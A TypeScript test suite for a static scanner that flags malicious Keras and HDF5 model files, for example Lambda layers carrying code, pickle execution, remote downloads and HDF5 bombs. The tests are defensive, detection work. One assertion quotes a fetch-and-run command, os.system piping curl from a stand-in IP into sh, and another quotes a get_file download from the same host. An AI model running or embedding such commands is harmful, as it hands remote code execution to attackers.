import { inflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { detectFormat } from '../../../src/detect/detect.js';
import { analyseStatic } from '../../../src/static/analyse.js';
import { bytesSource } from '../../../src/readers/bytes.js';
import type { StaticResult } from '../../../src/static/collected.js';
import hostile from './hostile.json' with { type: 'json' };
import models from './models.json' with { type: 'json' };

const FORMATS: Readonly<Record<string, string>> = { h5: 'hdf5', keras: 'keras', zip: 'zip', json: 'json' };

async function analyse(packed: string, name: string): Promise<StaticResult> {
  const source = bytesSource(inflateSync(Buffer.from(packed, 'base64')));
  const detection = await detectFormat(source);
  expect(detection.format).toBe(FORMATS[name.split('.')[1] ?? '']);
  return analyseStatic(source, detection, { name });
}

/** Rules of Keras and HDF5 that were broken, each once. */
function rules({ findings }: StaticResult): string[] {
  return [...new Set(findings.map(({ rule }) => rule))].sort();
}

type Model = keyof typeof models;
const ALL = Object.keys(models) as Model[];

describe('a model as Keras saved it', () => {
  it.each(ALL.filter((name) => !/lambda|custom|named/.test(name)))(
    '%s of Keras’s own layers has no finding and no gap',
    async (name) => {
      const { findings, gaps } = await analyse(models[name], name);
      expect({ findings, gaps }).toEqual({ findings: [], gaps: [] });
    },
  );

  it.each(['keras3-custom.keras', 'keras3-custom.h5', 'keras3-named.keras'] as const)(
    '%s names the code it needs, which is no more than information',
    async (name) => {
      const { findings, gaps } = await analyse(models[name], name);
      expect(gaps).toEqual([]);
      expect(findings.map(({ rule, severity }) => [rule, severity])).toEqual([['STATIC-KERAS-CUSTOM', 'info']]);
      expect(findings[0]?.explanation).toContain('mine>half');
      if (name.includes('custom')) expect(findings[0]?.explanation).toContain('Scale, mine>Registered');
    },
  );

  it.each(ALL.filter((name) => name.includes('lambda')))('%s carries code, which is shown', async (name) => {
    const { findings, gaps } = await analyse(models[name], name);
    expect(gaps).toEqual([]);
    expect(findings.map(({ rule, severity }) => [rule, severity])).toEqual([['STATIC-KERAS-LAMBDA', 'info']]);
    expect(findings[0]?.explanation).toContain('layer "double" is code in the file: it returns ((t * 2) + 1)');
  });
});

/** What each hostile twin must be caught for, whatever else is said of it. */
const CAUGHT: Readonly<Record<string, readonly string[]>> = {
  lambda: ['STATIC-KERAS-LAMBDA-CODE'],
  'lambda-broken.keras': ['STATIC-KERAS-LAMBDA-UNREADABLE'],
  'lambda-compile.keras': ['STATIC-KERAS-LAMBDA-CODE', 'STATIC-KERAS-IMPORT'],
  import: ['STATIC-KERAS-IMPORT'],
  gadget: ['STATIC-KERAS-GADGET'],
  'unsafe.keras': ['STATIC-KERAS-UNSAFE'],
  torch: ['STATIC-KERAS-TORCH-MODULE', 'STATIC-PICKLE-EXEC'],
  'savedmodel.keras': ['STATIC-KERAS-OTHER-MODEL', 'STATIC-KERAS-PATH'],
  tensorflow: ['STATIC-KERAS-TENSORFLOW'],
  path: ['STATIC-KERAS-PATH'],
  'path-relative.keras': ['STATIC-KERAS-FILE'],
  'weights-npz.keras': ['STATIC-PICKLE-EXEC'],
  'member-pickle.keras': ['STATIC-PICKLE-EXEC'],
  'member-python.keras': ['STATIC-PICKLE-EXEC', 'STATIC-KERAS-MEMBER'],
  wide: ['STATIC-KERAS-LAMBDA-CODE'],
  wide32: ['STATIC-KERAS-LAMBDA-CODE'],
  infinite: ['STATIC-KERAS-LAMBDA-CODE'],
  escaped: ['STATIC-KERAS-LAMBDA-CODE'],
  twice: ['STATIC-KERAS-LAMBDA-CODE'],
  'alone.zip': ['STATIC-KERAS-LAMBDA-CODE'],
  'bare.json': ['STATIC-KERAS-LAMBDA-CODE'],
  'outside.h5': ['STATIC-HDF5-EXTERNAL'],
  'huge.h5': ['STATIC-HDF5-BOMB'],
  'pickled.h5': ['STATIC-PICKLE-EXEC'],
};

describe('a model whose configuration was changed', () => {
  const names = Object.keys(hostile) as (keyof typeof hostile)[];

  it.each(names.filter((name) => !/^(no-json|number)/.test(name)))('%s is caught', async (name) => {
    const expected = CAUGHT[name] ?? CAUGHT[/^[a-z0-9]+/.exec(name)?.[0] ?? ''] ?? ['an entry in CAUGHT'];
    expect(rules(await analyse(hostile[name], name))).toEqual(expect.arrayContaining([...expected]));
  });

  it.each(['no-json.keras', 'number.h5'] as const)('%s is a gap when it cannot be read', async (name) => {
    const { gaps } = await analyse(hostile[name], name);
    expect(gaps.join('\n')).toMatch(/the configuration is no JSON|model_config of \/ is no text/);
  });

  it('tells the call with its arguments, and where it stands', async () => {
    const { findings } = await analyse(hostile['lambda-nested.keras'], 'lambda-nested.keras');
    const found = findings.find(({ rule }) => rule === 'STATIC-KERAS-LAMBDA-CODE');
    expect(found?.severity).toBe('critical');
    expect(found?.explanation).toContain("os.system('curl http://192.0.2.1/a | sh')");
    expect(found?.evidence[0]?.member).toBe('config.json');
    expect(found?.evidence[0]?.text).toContain('config.layers[3].config.layers[0].config.layer.config.function');
  });

  it('tells where in an HDF5 file the configuration lies', async () => {
    const { findings } = await analyse(hostile['lambda-list.h5'], 'lambda-list.h5');
    const bytes = inflateSync(Buffer.from(hostile['lambda-list.h5'], 'base64'));
    const at = findings[0]?.evidence[0]?.offset ?? 0;
    expect(bytes.subarray(at, at + 15).toString()).toMatch(/^\{"class_name"/);
  });

  it('shows the arguments of a download', async () => {
    const { findings } = await analyse(hostile['gadget-get-file.keras'], 'gadget-get-file.keras');
    expect(findings.find(({ rule }) => rule === 'STATIC-KERAS-GADGET')?.explanation).toContain(
      'keras.utils.get_file with {"origin":"http://192.0.2.1/a.tgz"',
    );
  });
});
